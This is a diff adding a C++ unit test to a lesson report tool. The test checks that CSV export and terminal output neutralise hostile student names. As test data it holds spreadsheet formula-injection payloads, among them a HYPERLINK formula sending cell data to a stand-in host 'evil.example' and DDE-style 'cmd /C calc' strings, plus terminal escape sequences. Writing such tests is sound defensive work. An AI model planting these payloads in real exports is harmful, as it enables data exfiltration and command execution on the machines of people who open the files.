@@ -193,3 +193,42 @@ TEST_CASE("report: a first-try lesson says so, scores the first tries and names 
     CHECK(lines(csv.out).at(1) == "s6,1,3,first-try,true,2 3 4,0,2,2,1,");
     std::filesystem::remove_all(dir);
 }
+
+TEST_CASE("report: hostile names open as text in a spreadsheet and never reach the terminal raw") {
+    const std::filesystem::path dir = std::filesystem::temp_directory_path() / "pl_report_hostile";
+    std::filesystem::remove_all(dir);
+    std::filesystem::create_directories(dir);
+    const std::string csv_path = (dir / "export.csv").string();
+    {
+        std::ofstream csv(csv_path, std::ios::binary);
+        csv << "name,token\n";
+        csv << "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"," << student_token(1) << "\n";
+        csv << "+cmd|' /C calc'!A0," << student_token(2) << "\n";
+        csv << "@SUM(1+1)*cmd|' /C calc'!A0,PLR1.bm90IGEgdG9rZW4\n";  // a bad token: still a neutral row
+        csv << "\x1b]0;pwned\x07\x1b[2J," << student_token(3) << "\n";
+    }
+    const std::string named = (dir / "=1+1.txt").string();  // a token file whose name is a formula
+    std::ofstream(named, std::ios::binary) << student_token(1);
+
+    const Run csv = report({"--lesson", kLesson, "--csv", csv_path, named});
+    CHECK(csv.code == 0);
+    const std::vector<std::string> rows = lines(csv.out);
+    REQUIRE(rows.size() == 6);
+    CHECK(rows[1].rfind("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",", 0) == 0);
+    CHECK(rows[2].rfind("'+cmd|' /C calc'!A0,", 0) == 0);
+    CHECK(rows[3].rfind("'@SUM(1+1)*cmd|' /C calc'!A0,,,passed,,", 0) == 0);
+    CHECK(rows[4].rfind("\\x1B]0;pwned\\x07\\x1B[2J,", 0) == 0);
+    CHECK(rows[5].rfind("'=1+1,", 0) == 0);
+    for (const std::string& row : rows) {
+        const bool formula_cell = !row.empty() && (row[0] == '=' || row[0] == '+' || row[0] == '@' || row[0] == '-');
+        CHECK_MESSAGE(!formula_cell, row);
+    }
+    CHECK(csv.out.find('\x1b') == std::string::npos);
+
+    const Run text = report({"--lesson", kLesson, csv_path});
+    CHECK(text.code == 0);
+    CHECK(text.out.find('\x1b') == std::string::npos);
+    CHECK(text.out.find('\x07') == std::string::npos);
+    CHECK(text.out.find("\\x1B]0;pwned\\x07\\x1B[2J") != std::string::npos);
+    std::filesystem::remove_all(dir);
+}
